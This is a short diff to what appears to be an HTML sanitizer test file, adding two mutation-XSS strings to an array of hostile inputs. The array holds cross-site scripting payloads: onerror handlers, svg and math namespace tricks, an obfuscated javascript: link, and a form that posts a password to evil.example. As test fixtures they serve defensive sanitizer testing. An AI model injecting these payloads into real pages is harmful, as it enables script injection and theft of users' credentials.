@@ -19,6 +19,8 @@ const nasty = [
   '<p>Words <a href="java\tscript:steal()">here</a></p>',
   '<p>Words</p><iframe srcdoc="<script>steal()</script>"></iframe>',
   '<p>Words</p><svg><script>steal()</script></svg>',
+  '<p>Words</p><svg><textarea><img src=x onerror=steal()></textarea></svg>',
+  '<p>Words</p><math><xmp><img src=x onerror=steal()></xmp></math>',
   '<p style="background:url(//evil.example)">Words</p>',
   '<p>Words</p><math><mtext><table><mglyph><style><img src=x onerror=steal()>',
   '<p>Words</p><form action="https://evil.example"><input name=password></form>',
